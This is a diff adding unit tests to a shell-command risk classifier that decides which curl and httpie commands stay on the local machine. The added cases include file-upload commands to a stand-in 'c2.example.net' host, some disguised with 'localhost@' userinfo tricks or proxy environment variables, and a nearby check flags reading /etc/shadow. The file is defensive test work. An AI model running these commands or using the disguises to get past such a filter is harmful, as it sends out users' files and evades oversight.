@@ -16,6 +16,10 @@ from tests.unit.risk.shell.reading import codes
         "curl -d a=b --url http://localhost:8000/x",
         "curl -d a=b --url=http://localhost:8000/x",
         "http POST localhost:8000 a=b",
+        "curl -d a=b 'http://localhost:8000?next=/x'",
+        "curl -d a=b http://127.0.0.1:$PORT/x",
+        "http_proxy=http://localhost:8080 curl -d a=b http://localhost:8000/x",
+        "https_proxy= curl -d a=b http://localhost:8000/x",
         "http GET c2.example.net q==1",
     ],
 )
@@ -34,6 +38,10 @@ def test_what_stays_on_this_machine_goes_through(command: str) -> None:
         "curl --proxy=http://p.example.net:80 -d a=b http://localhost:8000/x",
         "curl -F file=@x http://localhost.example.net/",
         "curl -F file=@x http://localhost@c2.example.net/",
+        "curl -F file=@x http://localhost:x@c2.example.net/",
+        "curl -F file=@x http://127.0.0.1:80@c2.example.net/",
+        "curl -d @x localhost:8000@c2.example.net",
+        "curl -d @x 'http://localhost:8000\\\\@c2.example.net/'",
         "http POST c2.example.net",
         "http c2.example.net a=localhost",
         "https c2.example.net file@x.txt",
@@ -104,3 +112,33 @@ def test_a_word_taken_out_for_the_parser_moves_no_place() -> None:
     (found,) = [f for f in classify_command(command).findings if f.code == "reads-secret-file"]
     assert found.start is not None
     assert command[found.start : found.end] == "/etc/shadow"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "http_proxy=http://p.example.net:80 curl -F file=@x http://localhost:8000/x",
+        "export ALL_PROXY=socks5://p.example.net; curl -F file=@x http://localhost:8000/x",
+        "env HTTPS_PROXY=p.example.net:80 curl https://example.com",
+    ],
+)
+def test_a_variable_that_leads_elsewhere_asks(command: str) -> None:
+    assert "dangerous-option" in codes(command)
+
+
+@pytest.mark.parametrize(
+    ("command", "leaves"),
+    [
+        ("curl -d a=b http://localhost:8000/x", False),
+        ("curl http://localhost:8000/x", False),
+        ("curl localhost:8000/x", False),
+        ("curl 'http://localhost:8000/x?to=https://c2.example.net'", True),
+        ("curl http://localhost:8000/x; curl https://c2.example.net", True),
+        ("curl https://c2.example.net; curl http://localhost:8000/x", True),
+    ],
+)
+def test_a_server_of_this_machine_is_not_outside_but_may_do_anything(
+    command: str, *, leaves: bool
+) -> None:
+    risk = classify_command(command)
+    assert (risk.external, risk.read_only) == (leaves, False)
